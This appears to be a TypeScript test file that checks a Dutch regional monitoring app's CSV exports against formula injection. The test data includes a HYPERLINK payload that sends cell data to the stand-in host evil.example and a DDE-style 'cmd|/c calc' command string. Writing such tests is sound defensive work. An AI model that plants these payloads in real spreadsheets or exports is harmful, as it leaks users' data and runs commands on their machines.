// CSV injection through the exports behind /export/werkplannen.csv and /export/swot.csv: a werkplan
// title and SWOT items that start with =, + or @, imported or typed into the app, come out as text
// with a leading apostrophe, never as the start of a formula. On the regiegroep fixtures
// (tests/fixtures/regiegroep) with one title and one item changed.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingest } from '../../pipelines/ingest';
import { Database } from '$lib/server/db/database';
import { edits } from '$lib/server/edits/store';
import { addSwotItem } from '$lib/server/edits/regiegroep';
import { EXPORTS } from '$lib/server/export/registry';
import { createFixtureDb } from '../fixtures/fixture-db';
import { REGIEGROEP_FIXTURES } from '../fixtures/regiegroep-db';

const TITLE = '=HYPERLINK("http://evil.example/?d="&A1;"Klik hier")';
const IMPORTED_ITEM = '+Korte lijnen tussen huisarts en buurtteam';
const TYPED_ITEM = '@SUM(1+1)*cmd|/c calc';

let dir: string;
let db: Database;
const savedEditsDb = process.env.MONITOR_EDITS_DB;

beforeAll(async () => {
	dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bm-csv-injection-'));
	const copy = (name: string, change: (text: string) => string) => {
		const file = path.join(dir, name);
		fs.writeFileSync(file, change(fs.readFileSync(path.join(REGIEGROEP_FIXTURES, name), 'utf8')));
		return file;
	};
	const files = [
		copy('werkplannen.csv', (t) => t.replace('Valpreventie thuiswonende ouderen', `"${TITLE.replace(/"/g, '""')}"`)),
		copy('mijlpalen.csv', (t) => t),
		copy('voortgang.csv', (t) => t),
		copy('swot.csv', (t) => t.replace('Korte lijnen tussen huisarts en buurtteam', IMPORTED_ITEM))
	];
	const dbPath = path.join(dir, 'monitor.duckdb');
	await createFixtureDb(dbPath);
	await ingest(dbPath, files);
	process.env.MONITOR_EDITS_DB = path.join(dir, 'edits.duckdb');
	db = new Database(dbPath);
	await addSwotItem(
		{ db, store: edits(), wie: 'Regiegroep', door: 'regiegroep', now: new Date('2025-10-15T10:00:00.000Z') },
		{ wijk_code: 'WK990101', datum: '2025-10-01', kwadrant: 'kans', omschrijving: TYPED_ITEM, thema: 'preventie' },
		new Set(['WK990101'])
	);
});

afterAll(async () => {
	db?.close();
	await edits().close();
	if (savedEditsDb === undefined) delete process.env.MONITOR_EDITS_DB;
	else process.env.MONITOR_EDITS_DB = savedEditsDb;
	fs.rmSync(dir, { recursive: true, force: true });
});

/** Cells as a spreadsheet would get them (RFC 4180 unquoted), per row. */
function cells(csv: string): string[][] {
	return Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
}

describe('CSV exports of the regiegroep', () => {
	it('werkplannen.csv writes a title that starts with = as text', async () => {
		const csv = await EXPORTS.werkplannen({ db, params: new URLSearchParams('peildatum=2025-10-14'), k: 5 });
		expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?d=""&A1;""Klik hier"")";`);
		const rows = cells(csv);
		const titel = rows[0].indexOf('titel');
		const wp01 = rows.find((r) => r[0] === 'WP01')!;
		expect(wp01[titel]).toBe(`'${TITLE}`);
		// No cell of the export starts a formula.
		for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
	});

	it('swot.csv writes imported and typed items that start with + or @ as text', async () => {
		const csv = await EXPORTS.swot({ db, params: new URLSearchParams('wijk=WK990101'), k: 5 });
		const rows = cells(csv);
		const omschrijving = rows[0].indexOf('omschrijving');
		const texts = rows.slice(1).map((r) => r[omschrijving]);
		expect(texts).toContain(`'${IMPORTED_ITEM}`);
		expect(texts).toContain(`'${TYPED_ITEM}`);
		expect(texts).not.toContain(IMPORTED_ITEM);
		for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
	});
});
